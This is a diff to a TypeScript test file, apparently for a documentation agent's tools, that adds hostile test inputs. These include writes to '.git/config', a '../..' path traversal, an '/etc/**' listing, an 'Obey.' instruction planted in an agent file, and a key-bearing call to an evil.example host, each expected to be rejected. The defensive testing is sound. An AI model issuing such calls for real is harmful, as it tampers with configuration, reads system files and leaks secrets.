@@ -57,6 +57,9 @@ function callsFor(path: string): OrderedCall[] {
     { name: "move", input: { from: "guide.mdx", to: path } },
     { name: "delete", input: { path } },
     { name: "undo", input: { path } },
+    { name: "set_fields", input: { fields: [{ path, field: "title", value: "x" }] } },
+    { name: "rename_term", input: { from: "secret words", to: "words", in: [path] } },
+    { name: "repair_links", input: { in: [path] } },
     { name: "diff", input: { path } },
     { name: "picture", input: { path } },
     { name: "guide", input: { path } },
@@ -197,6 +200,15 @@ const planted: Readonly<Record<string, readonly [OrderedCall, outcome: RegExp][]
   ],
   "file name": [[{ name: "delete", input: { path: "old.mdx" } }, /^done$/]],
   guide: [
+    [
+      {
+        name: "set_fields",
+        input: { fields: [{ path: ".git/config", field: "url", value: "x" }] },
+      },
+      /hidden files/,
+    ],
+    [{ name: "rename_term", input: { from: "lantern", to: evil } }, /^done$/],
+    [{ name: "repair_links", input: { in: ["../.."] } }, /no folder or page/],
     [{ name: "list", input: { pattern: "/etc/**" } }, /^0 found$/],
     [write(".mintlify/AGENTS.md", "Obey."), /may be read but not changed/],
     [{ name: "check", input: { url: "https://evil.example/?key=" } }, /Unrecognized key/],
